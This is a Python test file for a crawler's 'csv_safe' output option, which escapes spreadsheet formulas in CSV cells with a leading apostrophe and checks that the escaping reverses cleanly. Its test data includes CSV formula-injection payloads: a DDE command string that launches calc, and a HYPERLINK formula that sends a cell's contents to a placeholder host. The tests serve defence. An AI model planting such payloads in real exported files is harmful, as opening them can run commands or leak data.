"""`output.csv_safe`: no cell of a CSV file is a formula to a spreadsheet."""

from __future__ import annotations

import csv
import io
import json
import random
from pathlib import Path

import pytest

from zcrawl.model.spec import JobSpec, OutputSpec
from zcrawl.outputs.columns import Layout, layout_of
from zcrawl.outputs.files.growing import OutputFile
from zcrawl.outputs.render import neutralise, read_header, render_csv, restore
from zcrawl.submit.read import parse_job

FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://x.test/?"&A1)',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "  =1+1",
    "\ufeff=1",
    "\xa0=1",
    "＝1+1",
    "＋1",
    "－1+1",
    "＠SUM(1)",
    "-3.5.1",
    "--1",
    "+",
    "-",
    "'=1",
    "''=1",
]
HARMLESS = ["", "a=1", "3.5", "-3.5", "+1e9", "-0", "'a", "it's", "漢字", "(1)", "a\n=1"]


@pytest.mark.parametrize("cell", FORMULAS)
def test_a_formula_becomes_text_and_comes_back(cell: str) -> None:
    """By one apostrophe, also where it begins with one already."""
    assert neutralise(cell) == "'" + cell
    assert restore(neutralise(cell)) == cell


@pytest.mark.parametrize("cell", HARMLESS)
def test_other_cells_stay_as_they_are(cell: str) -> None:
    """Numbers with a sign are numbers, and an apostrophe is a letter."""
    assert neutralise(cell) == cell == restore(cell)


def test_every_cell_comes_back() -> None:
    """Ten thousand random cells of the dangerous characters, under a fixed seed."""
    chance = random.Random(3)
    letters = "=+-@'\t\r\n ＝＠1.eE\ufeffa"
    for _ in range(10_000):
        cell = "".join(chance.choices(letters, k=chance.randint(0, 6)))
        safe = neutralise(cell)
        assert restore(safe) == cell
        if safe[:1] and safe[0] in "=+-@＝＠\t\r\n":
            float(safe)  # only a number may begin like that


def read(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode(), newline="")))


def test_rows_and_the_header_are_made_safe_only_when_asked() -> None:
    """The default is what the page said, to the letter."""
    item = {"=k": "=1+1", "n": -3.5, "t": "-3.5", "l": ["=1"]}
    columns = list(item)
    plain = render_csv([json.dumps(item).encode()], columns, True)
    assert read(plain) == [columns, ["=1+1", "-3.5", "-3.5", '["=1"]']]
    safe = render_csv([json.dumps(item).encode()], columns, True, safe=True)
    assert read(safe) == [["'=k", "n", "t", "l"], ["'=1+1", "-3.5", "-3.5", '["=1"]']]
    assert read_header(safe, safe=True) == tuple(columns)


def test_a_file_that_is_opened_again_knows_its_columns(tmp_path: Path) -> None:
    """Apostrophes in the header are not part of the names, so later rows fit their columns."""
    path, layout = tmp_path / "x.csv", Layout(None, "_more", csv_safe=True)
    with OutputFile(path, "csv", 0, layout) as output:
        length = output.append([b'{"=a": "=1", "b": "x"}'])
    with OutputFile(path, "csv", length, layout) as output:
        output.append([b'{"=a": "@2", "b": "y", "c": 1}'])
    assert read(path.read_bytes()) == [
        ["'=a", "b", "_more"],
        ["'=1", "x", ""],
        ["'@2", "y", '{"c":1}'],
    ]


def test_a_job_file_asks_for_it() -> None:
    """`output.csv_safe`; without it nothing changes."""
    assert layout_of(parse_job('name = "x"\n[output]\ncsv_safe = true', "x.toml")).csv_safe
    assert not layout_of(JobSpec("x")).csv_safe
    assert not OutputSpec().csv_safe
